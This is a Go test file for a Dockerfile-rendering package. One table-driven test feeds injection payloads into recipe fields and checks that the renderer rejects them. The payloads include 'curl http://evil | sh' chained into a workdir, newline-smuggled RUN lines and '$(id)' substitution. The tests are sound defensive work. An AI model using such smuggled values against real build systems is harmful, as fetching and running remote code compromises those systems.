package recipe

import (
	"bytes"
	"testing"

	"github.com/melih/goal-listener/internal/core/domain"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const listenerDockerfile = `FROM python:3.11-slim

RUN apt-get update \
    && apt-get install -y --no-install-recommends git procps \
    && rm -rf /var/lib/apt/lists/*

WORKDIR /app

COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt

COPY . .

RUN git config --global --add safe.directory /app || true

EXPOSE 5000

CMD ["python","webhook_listener.py"]
`

func TestRender_DefaultRecipe(t *testing.T) {
	out, err := Render(domain.DefaultRecipe())
	require.NoError(t, err)
	assert.Equal(t, listenerDockerfile, string(out))
}

func TestRender_IsDeterministic(t *testing.T) {
	first, err := Render(domain.DefaultRecipe())
	require.NoError(t, err)
	for i := 0; i < 5; i++ {
		again, err := Render(domain.DefaultRecipe())
		require.NoError(t, err)
		assert.Equal(t, first, again)
	}
}

func TestRender_OptionalSteps(t *testing.T) {
	r := domain.DefaultRecipe()
	r.OSPackages = nil
	r.SafeDirectory = false

	out, err := Render(r)
	require.NoError(t, err)
	assert.NotContains(t, string(out), "apt-get")
	assert.NotContains(t, string(out), "safe.directory")
	assert.Contains(t, string(out), "COPY . .\n\nEXPOSE 5000")
}

func TestRender_RejectsInvalidRecipe(t *testing.T) {
	r := domain.DefaultRecipe()
	r.BaseImage = "python:latest"
	r.Port = 0

	_, err := Render(r)
	require.ErrorIs(t, err, domain.ErrInvalidRecipe)
	assert.Contains(t, err.Error(), "python:latest")
	assert.Contains(t, err.Error(), "port 0")
}

func TestRender_RejectsInjectedInstructions(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*domain.Recipe)
		field  string
	}{
		{"workdir shell chain", func(r *domain.Recipe) { r.WorkDir = "/app && curl http://evil | sh" }, "workdir"},
		{"manifest newline", func(r *domain.Recipe) { r.Manifest = "requirements.txt\nRUN echo injected" }, "manifest"},
		{"interpreter substitution", func(r *domain.Recipe) { r.Interpreter = "$(id)" }, "interpreter"},
		{"entrypoint quote", func(r *domain.Recipe) { r.EntryPoint = `app.py", "--evil` }, "entrypoint"},
		{"package newline", func(r *domain.Recipe) { r.OSPackages = []string{"git\nRUN echo injected"} }, "os package"},
		{"base image newline", func(r *domain.Recipe) { r.BaseImage = "python:3.11\nRUN echo injected" }, "base image"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := domain.DefaultRecipe()
			tt.mutate(&r)

			out, err := Render(r)
			require.ErrorIs(t, err, domain.ErrInvalidRecipe)
			assert.Contains(t, err.Error(), tt.field)
			assert.Nil(t, out)
		})
	}
}

func TestRender_PassesLint(t *testing.T) {
	r := domain.DefaultRecipe()
	out, err := Render(r)
	require.NoError(t, err)

	report, err := Lint(bytes.NewReader(out), ExpectFor(r))
	require.NoError(t, err)
	assert.True(t, report.OK(), "violations: %+v", report.Violations)
}
